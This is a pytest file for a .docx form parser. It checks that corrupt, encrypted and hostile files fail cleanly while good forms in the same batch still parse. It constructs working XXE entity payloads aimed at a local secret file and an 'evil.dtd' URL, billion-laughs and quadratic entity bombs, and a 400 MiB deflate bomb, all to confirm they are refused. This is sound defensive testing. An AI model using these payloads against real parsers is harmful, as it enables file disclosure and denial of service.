"""Bad input, end to end: every kind of unreadable file a season of returned
forms brings, each in a batch beside good forms, through ``formkit parse``.

For every kind: the bad file's result carries its stable error code and a
message naming the file (in the output and on stderr), the exit status is 1,
no traceback reaches the user, and every OTHER file of the same batch is
parsed to its expected record. The unit tests of the package layer
(tests/test_package.py, tests/test_xmlsafe.py) check the mechanisms; these
check what a user running a batch sees. Bad files are built here, from the
samples where a real form is needed.
"""
from __future__ import annotations

import copy
import io
import json
import os
import random
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from formkit.cli import main
from tests.docxbuild import make_docx, p

ROOT = Path(__file__).resolve().parent.parent
S12 = ROOT / "samples" / "esao-1-2"
S31 = ROOT / "samples" / "esao-3-1"
GOOD = {"good-1-2.docx": S12 / "over-dots.docx", "good-3-1.docx": S31 / "three-works.docx"}
BAD = "แบบประเมิน-สพท.docx"  # a Thai file name, as offices send them
MiB = 2**20
# The first answer line of over-dots.docx's narrative (the "process" field).
ANSWER = "สพท. ส่งเสริมให้บุคลากรพัฒนาตนเองผ่านการอบรมออนไลน์ทุกไตรมาส"


def expected(sample: Path) -> dict:
    return json.loads(sample.with_suffix(".json").read_text("utf-8"))


# -- building bad files ------------------------------------------------------------

def members(sample: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(sample) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def rezip(parts: dict[str, bytes], extra: int = 0) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        for i in range(extra):
            zf.writestr(f"customXml/item{i}.xml", b"")
    return buf.getvalue()


def sample_with(part: str, data: bytes, sample: Path = S12 / "over-dots.docx") -> bytes:
    """``sample`` with one member replaced (or added)."""
    return rezip({**members(sample), part: data})


def document_xml(sample: Path = S12 / "over-dots.docx") -> str:
    return members(sample)["word/document.xml"].decode("utf-8")


def with_doctype(xml: str, doctype: str) -> bytes:
    """``xml`` (starting with an XML declaration) with ``doctype`` after it."""
    decl, rest = xml.split("?>", 1)
    return f"{decl}?>{doctype}{rest}".encode("utf-8")


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A small but well-formed OLE2 compound file (MS-CFB, version 3, 512-byte
    sectors) holding ``streams`` in the root storage. Streams are padded to
    4096 bytes so they live in regular sectors (no mini stream needed)."""
    sector = 512
    data = {name: body.ljust(4096, b"\0") for name, body in streams.items()}
    names = sorted(data, key=lambda n: (len(n), n.upper()))  # CFB sibling order
    fat: list[int] = [0xFFFFFFFD, 0xFFFFFFFE]  # sector 0: the FAT, sector 1: the directory
    starts = {}
    for name in names:
        count = len(data[name]) // sector
        starts[name] = len(fat)
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
    assert len(fat) <= sector // 4, "one FAT sector is enough for these tests"
    fat += [0xFFFFFFFF] * (sector // 4 - len(fat))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return struct.pack("<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, 0xFFFFFFFF, right, child,
                           b"\0" * 16, 0, 0, 0, start, size)

    entries = [entry("Root Entry", 5, 0xFFFFFFFF, 1 if names else 0xFFFFFFFF, 0xFFFFFFFE, 0)]
    for i, name in enumerate(names, 1):  # a chain of right siblings, in CFB order
        right = i + 1 if i < len(names) else 0xFFFFFFFF
        entries.append(entry(name, 2, right, 0xFFFFFFFF, starts[name], len(data[name])))
    directory = b"".join(entries).ljust(sector * ((len(entries) * 128 + sector - 1) // sector), b"\0")
    assert len(directory) == sector, "one directory sector is enough for these tests"
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), b"\0" * 16,
                         0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0,
                         0xFFFFFFFE, 0)
    header += struct.pack("<109I", 0, *[0xFFFFFFFF] * 108)
    body = b"".join(data[name] for name in names)
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + body


def encrypted_docx() -> bytes:
    """What Word writes for a password-protected .docx (MS-OFFCRYPTO): an OLE
    file whose EncryptedPackage stream holds the encrypted zip."""
    rng = random.Random(7)
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    package = struct.pack("<Q", 40000) + rng.randbytes(6000)
    return ole_file({"EncryptionInfo": info, "EncryptedPackage": package})


def legacy_doc() -> bytes:
    """A Word 97-2003 file as far as its container goes: WordDocument and 1Table streams."""
    fib = struct.pack("<HH", 0xA5EC, 0xC1) + b"\0" * 60
    return ole_file({"WordDocument": fib, "1Table": b"\0" * 100})


def unrelated_document() -> bytes:
    return make_docx(p("บันทึกข้อความ") + p("เรื่อง ขอเชิญประชุมคณะกรรมการ") + p("วันที่ 12 มกราคม 2566"))


# -- running a batch ---------------------------------------------------------------

@dataclass
class Batch:
    code: int
    stdout: str
    stderr: str
    rows: dict[str, dict]  # output rows by file name
    folder: Path


def run_batch(tmp_path: Path, bad: dict[str, bytes], *args: str, good: dict[str, Path] = GOOD,
              explicit: tuple[str, ...] = ()) -> Batch:
    """Parse a folder of the ``good`` samples and the ``bad`` files (plus
    ``explicit`` files passed by path) with ``formkit parse DIR -o out.jsonl``."""
    folder = tmp_path / "returned"
    folder.mkdir()
    for name, sample in good.items():
        shutil.copy(sample, folder / name)
    for name, data in bad.items():
        (folder / name).write_bytes(data)
    out = tmp_path / "out.jsonl"
    result = CliRunner().invoke(main, ["parse", str(folder), *explicit, "-o", str(out), *args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    rows = {Path(row["file"]).name: row for row in map(json.loads, out.read_text("utf-8").splitlines())}
    assert not list(tmp_path.glob("*.part")) and not list(tmp_path.glob(".*.part"))
    return Batch(result.exit_code, result.stdout, result.stderr, rows, folder)


def check_failed(batch: Batch, name: str, code: str, *words: str) -> dict:
    """The bad file failed with ``code``, named in its message and on stderr;
    the run exited 1 without a traceback; nothing is internal."""
    assert batch.code == 1, batch.stderr
    row = batch.rows[name]
    path = str(batch.folder / name)
    assert row["error"] is not None, row
    assert row["error"]["code"] == code, row["error"]
    assert row["form"] is None and row["record"] is None and row["warnings"] == []
    assert row["error"]["message"].startswith(f"{path}: "), row["error"]["message"]
    for word in words:
        assert word in row["error"]["message"], (word, row["error"]["message"])
    assert f"error: {path}: " in batch.stderr and f"[{code}]" in batch.stderr
    assert "Traceback" not in batch.stderr and "internal-error" not in batch.stderr
    return row


def check_rest_parsed(batch: Batch, good: dict[str, Path] = GOOD, failed: int = 1, parsed: int = 0) -> None:
    """Every good file of the batch parsed to its sample's record (and
    ``parsed`` more files were parsed)."""
    for name, sample in good.items():
        row, want = batch.rows[name], expected(sample)
        assert row["error"] is None, row["error"]
        assert (row["form"], row["record"], row["warnings"]) == (want["form"], want["record"], want["warnings"])
    total = len(good) + parsed + failed
    assert f"formkit: {total} file(s): {len(good) + parsed} parsed" in batch.stderr
    assert f", {failed} failed" in batch.stderr


def single(tmp_path: Path, data: bytes, code: str, *words: str, args: tuple[str, ...] = ()) -> Batch:
    batch = run_batch(tmp_path, {BAD: data}, *args)
    check_failed(batch, BAD, code, *words)
    check_rest_parsed(batch)
    return batch


# -- the kinds ---------------------------------------------------------------------

def test_empty_file(tmp_path: Path) -> None:
    single(tmp_path, b"", "not-docx", "empty")


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "PDF"),
        ("แบบประเมินตนเอง ปีงบประมาณ 2565\n".encode("utf-8"), "plain text"),
        (b"{\\rtf1\\ansi\\deff0 {\\fonttbl}", "Rich Text"),
        (random.Random(3).randbytes(5000), "unknown type"),
    ],
    ids=["pdf", "text", "rtf", "random"],
)
def test_not_a_zip(tmp_path: Path, data: bytes, what: str) -> None:
    single(tmp_path, data, "not-docx", what, args=("--no-convert",))


@pytest.mark.parametrize("keep", [0.1, 0.5, 0.999])
def test_truncated_zip(tmp_path: Path, keep: float) -> None:
    """A download cut short: the first part of a real returned form."""
    data = (S12 / "over-dots.docx").read_bytes()
    single(tmp_path, data[: int(len(data) * keep)], "corrupt", "damaged or incomplete")


def test_zip_without_main_document_part(tmp_path: Path) -> None:
    parts = members(S12 / "over-dots.docx")
    del parts["word/document.xml"]
    single(tmp_path, rezip(parts), "missing-part", "word/document.xml")


def test_password_protected_docx(tmp_path: Path) -> None:
    single(tmp_path, encrypted_docx(), "encrypted", "password")


def test_legacy_doc_without_conversion(tmp_path: Path) -> None:
    """With --no-convert a folder walk skips .doc files, so it is named
    explicitly (as a user naming files does); one saved as .docx is walked."""
    doc = tmp_path / "สพท-เก่า.doc"
    doc.write_bytes(legacy_doc())
    batch = run_batch(tmp_path, {BAD: legacy_doc()}, "--no-convert", explicit=(str(doc),))
    check_failed(batch, BAD, "not-docx", "Word 97-2003")
    row = batch.rows[doc.name]
    assert row["error"]["code"] == "not-docx" and row["error"]["message"].startswith(f"{doc}: ")
    assert f"error: {doc}: " in batch.stderr
    check_rest_parsed(batch, failed=2)


def test_legacy_doc_without_libreoffice_in_a_big_batch(tmp_path: Path) -> None:
    folder = tmp_path / "returned"
    folder.mkdir()
    for n in range(24):
        shutil.copy(S12 / "over-dots.docx", folder / f"good-{n:02d}.docx")
    (folder / "สพท-เก่า.doc").write_bytes(legacy_doc())
    out = tmp_path / "out.jsonl"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "FORMKIT_SOFFICE": str(tmp_path / "no-soffice")}
    proc = subprocess.run([sys.executable, "-m", "formkit", "parse", str(folder), "--jobs", "2", "-o", str(out)],
                          capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)
    assert "Traceback" not in proc.stderr, proc.stderr[-1500:]
    rows = {Path(row["file"]).name: row for row in map(json.loads, out.read_text("utf-8").splitlines())}
    good = {f"good-{n:02d}.docx": S12 / "over-dots.docx" for n in range(24)}
    check_failed(Batch(proc.returncode, proc.stdout, proc.stderr, rows, folder), "สพท-เก่า.doc", "converter-missing")
    check_rest_parsed(Batch(proc.returncode, proc.stdout, proc.stderr, rows, folder), good=good)


@pytest.mark.parametrize(
    ("part", "cut"),
    [("word/document.xml", 0.5), ("word/document.xml", 0.999), ("word/styles.xml", 0.5),
     ("word/header1.xml", 0.7), ("[Content_Types].xml", 0.5), ("word/_rels/document.xml.rels", 0.5)],
)
def test_malformed_xml(tmp_path: Path, part: str, cut: float) -> None:
    raw = members(S12 / "over-dots.docx")[part]
    single(tmp_path, sample_with(part, raw[: int(len(raw) * cut)]), "bad-xml", part)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret" / "passwd.txt"
    path.parent.mkdir()
    path.write_text("SECRET-4417-ห้ามเปิดเผย", "utf-8")
    return path


@pytest.fixture
def listener() -> socket.socket:
    """A local TCP port nobody should connect to."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(5)
    sock.setblocking(False)
    yield sock
    sock.close()


def _xxe(kind: str, secret: Path, port: int) -> tuple[str, str]:
    """(DOCTYPE, entity reference placed in the answer) of one attack."""
    uri, url = secret.as_uri(), f"http://127.0.0.1:{port}/evil.dtd"
    return {
        "system-entity": (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{uri}">]>', "&xxe;"),
        "parameter-entity": (f'<!DOCTYPE w:document [<!ENTITY % p SYSTEM "{uri}"> %p;]>', ""),
        "external-dtd": (f'<!DOCTYPE w:document SYSTEM "{url}">', "&xxe;"),
        "network-entity": (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{url}">]>', "&xxe;"),
        "internal-entity": ('<!DOCTYPE w:document [<!ENTITY xxe "injected">]>', "&xxe;"),
    }[kind]


@pytest.mark.parametrize("kind", ["system-entity", "parameter-entity", "external-dtd", "network-entity",
                                  "internal-entity"])
@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "[Content_Types].xml",
                                  "word/_rels/document.xml.rels"])
def test_doctype_and_external_entities(tmp_path: Path, secret: Path, listener: socket.socket,
                                       kind: str, part: str) -> None:
    """Refused, never resolved: the secret never shows anywhere, no connection is made."""
    doctype, ref = _xxe(kind, secret, listener.getsockname()[1])
    xml = members(S12 / "over-dots.docx")[part].decode("utf-8")
    if part == "word/document.xml":
        assert xml.count(ANSWER) == 1
        xml = xml.replace(ANSWER, ANSWER + ref)
    batch = single(tmp_path, sample_with(part, with_doctype(xml, doctype)), "unsafe-xml", part, "DOCTYPE")
    everything = batch.stdout + batch.stderr + (tmp_path / "out.jsonl").read_text("utf-8")
    assert "SECRET-4417" not in everything and "injected" not in everything
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody knocked


BILLION_LAUGHS = "<!DOCTYPE w:document [<!ENTITY l0 \"ha\">" + "".join(
    f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
QUADRATIC = f'<!DOCTYPE w:document [<!ENTITY big "{"x" * 50_000}">]>'


@pytest.mark.parametrize(("doctype", "ref"), [(BILLION_LAUGHS, "&l9;"), (QUADRATIC, "&big;" * 20_000)],
                         ids=["billion-laughs", "quadratic-blowup"])
def test_entity_expansion_bomb(tmp_path: Path, doctype: str, ref: str) -> None:
    xml = document_xml().replace(ANSWER, ANSWER + ref)
    start = time.perf_counter()
    single(tmp_path, sample_with("word/document.xml", with_doctype(xml, doctype)), "unsafe-xml", "DOCTYPE")
    assert time.perf_counter() - start < 10


# -- the deflate bomb, measured in a subprocess --------------------------------------

def _local_header(name: bytes, method: int, crc: int, packed: int, size: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, packed, size, len(name), 0) + name


def _central(name: bytes, method: int, crc: int, packed: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, packed, size,
                       len(name), 0, 0, 0, 0, 0, offset) + name


def write_bomb(path: Path, sample: Path, size: int, declared: int | None) -> None:
    """``sample`` whose word/document.xml is ``size`` bytes of XML-looking
    filler deflated (about 1000:1), the zip written as it is compressed, so
    neither this test nor the disk ever holds the inflated bytes.
    ``declared``: the uncompressed size the headers claim (None: the truth)."""
    parts = members(sample)
    central, chunk = [], (b"<w:p/>" * (MiB // 6 + 1))[:MiB]
    with path.open("wb") as fh:
        for name, data in parts.items():
            offset, raw = fh.tell(), name.encode()
            if name == "word/document.xml":
                comp, crc, packed = zlib.compressobj(9, zlib.DEFLATED, -15), 0, 0
                fh.write(_local_header(raw, 8, 0, 0, 0))  # sizes patched below
                for _ in range(size // MiB):
                    out = comp.compress(chunk)
                    crc, packed = zlib.crc32(chunk, crc), packed + len(out)
                    fh.write(out)
                out = comp.flush()
                packed += len(out)
                fh.write(out)
                end = fh.tell()
                claim = size if declared is None else declared
                fh.seek(offset)
                fh.write(_local_header(raw, 8, crc, packed, claim))
                fh.seek(end)
                central.append(_central(raw, 8, crc, packed, claim, offset))
            else:
                fh.write(_local_header(raw, 0, zlib.crc32(data), len(data), len(data)) + data)
                central.append(_central(raw, 0, zlib.crc32(data), len(data), len(data), offset))
        start, directory = fh.tell(), b"".join(central)
        fh.write(directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central),
                                         len(directory), start, 0))


# `formkit ARGS`, writing at exit its own peak RSS (VmHWM: exec starts it afresh,
# where a child's rusage would also count the forked copy of pytest it began as)
_MEASURED = r"""
import atexit, os
def _peak():
    with open("/proc/self/status") as fh:
        hwm = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM")) * 1024
    with open(os.environ["FORMKIT_TEST_RSS"], "w") as fh:
        fh.write(str(hwm))
atexit.register(_peak)
from formkit.cli import main
main(prog_name="formkit")
"""


def run_measured(args: list[str], timeout: float) -> tuple[int, str, str, int]:
    """``formkit ARGS`` in a subprocess: (exit status, stdout, stderr, peak
    RSS in bytes of that process alone, as it reports it at exit)."""
    with tempfile.TemporaryDirectory() as tmp:
        rss = Path(tmp) / "rss"
        code, out, err = _run(args, timeout, {**os.environ, "PYTHONPATH": str(ROOT), "FORMKIT_TEST_RSS": str(rss)})
        return code, out, err, int(rss.read_text())


def _run(args: list[str], timeout: float, env: dict[str, str]) -> tuple[int, str, str]:
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        proc = subprocess.Popen([sys.executable, "-c", _MEASURED, *args], stdout=out, stderr=err, cwd=ROOT, env=env)
        deadline = time.monotonic() + timeout
        while True:
            pid, status, _usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                proc.kill()
                os.wait4(proc.pid, 0)
                proc.returncode = -9
                pytest.fail(f"formkit {' '.join(args)} still running after {timeout} s")
            time.sleep(0.02)
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return proc.returncode, out.read().decode("utf-8"), err.read().decode("utf-8")


@pytest.mark.parametrize(
    ("declared", "words"),
    [(None, ["would unpack to 400.0 MiB", "max_member_bytes"]), (40_000, ["more data than its header declares", "not unpacked"])],
    ids=["honest-headers", "lying-headers"],
)
def test_deflate_bomb_in_bounded_memory(tmp_path: Path, declared: int | None, words: list[str]) -> None:
    """word/document.xml inflating to 400 MiB from a 0.4 MB file: refused from
    the headers before inflating (or, when the headers lie, as soon as the
    data outgrows them); the whole run stays under 300 MB."""
    folder = tmp_path / "returned"
    folder.mkdir()
    for name, sample in GOOD.items():
        shutil.copy(sample, folder / name)
    bomb = folder / BAD
    write_bomb(bomb, S12 / "over-dots.docx", 400 * MiB, declared)
    assert bomb.stat().st_size < 2 * MiB
    out = tmp_path / "out.jsonl"
    code, stdout, stderr, peak = run_measured(["parse", str(folder), "-o", str(out)], timeout=60)
    assert peak < 300 * 10**6, f"peak RSS {peak / 1e6:.0f} MB"
    rows = {Path(row["file"]).name: row for row in map(json.loads, out.read_text("utf-8").splitlines())}
    check_failed(Batch(code, stdout, stderr, rows, folder), BAD, "too-large", "word/document.xml", *words)
    check_rest_parsed(Batch(code, stdout, stderr, rows, folder))


def test_thousands_of_zip_members(tmp_path: Path) -> None:
    data = rezip(members(S12 / "over-dots.docx"), extra=5000)
    single(tmp_path, data, "too-large", "5,010 zip entries", "max_members")


# -- big, strange, or simply someone else's documents ----------------------------------

THAI_WORDS = ("การ พัฒนา บุคลากร ชุมชน การเรียนรู้ ทาง วิชาชีพ แผน งาน ความรู้ องค์การ เขต พื้นที่ "
              "การศึกษา ประชุม รายงาน ติดตาม ประเมิน ผล โครงการ กิจกรรม ครู โรงเรียน นิเทศ 2565 PLC").split()


def grown_answer(paragraphs: int, chars: int, seed: int = 1) -> tuple[bytes, list[str]]:
    """over-dots.docx with ``paragraphs`` more answer paragraphs of about
    ``chars`` characters of varied Thai (it compresses like real text, not
    like a bomb) after the narrative's first line; and those lines."""
    rng = random.Random(seed)
    lines = []
    per_line = chars // 6  # the words average about 6 characters with their space
    for n in range(paragraphs):
        lines.append(" ".join([f"({n + 1})", *rng.choices(THAI_WORDS, k=per_line)]))
    anchor = f"<w:t>{ANSWER}</w:t></w:r></w:p>"
    xml = document_xml()
    assert xml.count(anchor) == 1
    added = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    return sample_with("word/document.xml", xml.replace(anchor, anchor + added).encode("utf-8")), lines


def test_very_large_valid_document_parses(tmp_path: Path) -> None:
    """A narrative answer grown to ~20 MB of text in document.xml: read whole, right record."""
    data, lines = grown_answer(2400, 3300)
    assert 18 * MiB < len(members_of(data)["word/document.xml"]) < 64 * MiB
    batch = run_batch(tmp_path, {"ยาวมาก.docx": data})
    assert batch.code == 0, batch.stderr
    check_rest_parsed(batch, failed=0, parsed=1)
    row, want = batch.rows["ยาวมาก.docx"], expected(S12 / "over-dots.json")
    assert row["error"] is None and row["form"] == "esao-1-2"
    first, *rest = want["record"]["process"].split("\n")
    assert row["record"]["process"] == "\n".join([first, *lines, *rest])
    assert {k: v for k, v in row["record"].items() if k != "process"} == \
        {k: v for k, v in want["record"].items() if k != "process"}


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def long_quality_table(copies: int) -> bytes:
    """over-dots.docx with one row of its quality table repeated ``copies``
    times: a 70 KB file for 4000 copies."""
    from lxml import etree

    parts = members(S12 / "over-dots.docx")
    root = etree.fromstring(parts["word/document.xml"])
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    row = next(root.iter(f"{w}tbl")).findall(f"{w}tr")[2]
    for _ in range(copies):
        row.addnext(copy.deepcopy(row))
    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    return rezip(parts)


def many_tables(count: int) -> bytes:
    """over-dots.docx with ``count`` one-cell tables after the form: 10 KB for 6000."""
    xml = document_xml()
    table = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>ตาราง</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p/>"
    assert xml.count("<w:sectPr") == 1
    return sample_with("word/document.xml", xml.replace("<w:sectPr", table * count + "<w:sectPr").encode("utf-8"))


HANGS = [  # shapes that once took quadratic time (an index of table cells fixed both)
    pytest.param(lambda: long_quality_table(4000), 6.0, id="long-quality-table"),
    pytest.param(lambda: grown_answer(50_000, 150)[0], 20.0, id="many-paragraph-answer"),
    pytest.param(lambda: many_tables(6000), 4.0, id="many-tables"),
]


@pytest.mark.parametrize(("build", "deadline"), HANGS)
def test_hostile_shapes_parse_in_linear_time(tmp_path: Path, build, deadline: float) -> None:  # type: ignore[no-untyped-def]
    """Small files shaped to hit a super-linear path must finish like any
    file of their size (a linear parse takes about a third of the deadline)."""
    folder = tmp_path / "returned"
    folder.mkdir()
    for name, sample in GOOD.items():
        shutil.copy(sample, folder / name)
    (folder / BAD).write_bytes(build())
    out = tmp_path / "out.jsonl"
    code, _, stderr, _ = run_measured(["parse", str(folder), "-o", str(out)], timeout=deadline)
    rows = {Path(row["file"]).name: row for row in map(json.loads, out.read_text("utf-8").splitlines())}
    assert "Traceback" not in stderr and (rows[BAD]["error"] or {}).get("code") != "internal-error"
    failed = int(rows[BAD]["error"] is not None)
    check_rest_parsed(Batch(code, "", stderr, rows, folder), failed=failed, parsed=1 - failed)


def test_unrelated_document(tmp_path: Path) -> None:
    single(tmp_path, unrelated_document(), "unknown-form", "none of the known forms")


def test_valid_form_forced_with_the_wrong_form(tmp_path: Path) -> None:
    """--form esao-3-1 over a batch of esao-3-1 forms and one esao-1-2 form."""
    good = {"works-3.docx": S31 / "three-works.docx", "works-1.docx": S31 / "one-work.docx"}
    batch = run_batch(tmp_path, {BAD: (S12 / "over-dots.docx").read_bytes()}, "--form", "esao-3-1", good=good)
    check_failed(batch, BAD, "form-mismatch", "esao-3-1")
    check_rest_parsed(batch, good=good)


def test_every_kind_in_one_batch(tmp_path: Path) -> None:
    """All the small bad kinds together: each keeps its own code, the good ones parse."""
    parts = members(S12 / "over-dots.docx")
    bad = {
        "empty.docx": (b"", "not-docx"),
        "text.docx": (b"hello", "not-docx"),
        "cut.docx": ((S12 / "over-dots.docx").read_bytes()[:5000], "corrupt"),
        "nomain.docx": (rezip({k: v for k, v in parts.items() if k != "word/document.xml"}), "missing-part"),
        "locked.docx": (encrypted_docx(), "encrypted"),
        "old.docx": (legacy_doc(), "not-docx"),
        "broken.docx": (sample_with("word/document.xml", parts["word/document.xml"][:-20]), "bad-xml"),
        "laughs.docx": (sample_with("word/document.xml", with_doctype(document_xml(), BILLION_LAUGHS)), "unsafe-xml"),
        "many.docx": (rezip(parts, extra=3000), "too-large"),
        "memo.docx": (unrelated_document(), "unknown-form"),
    }
    batch = run_batch(tmp_path, {name: data for name, (data, _) in bad.items()}, "--no-convert")
    for name, (_, code) in bad.items():
        check_failed(batch, name, code)
    check_rest_parsed(batch, failed=len(bad))
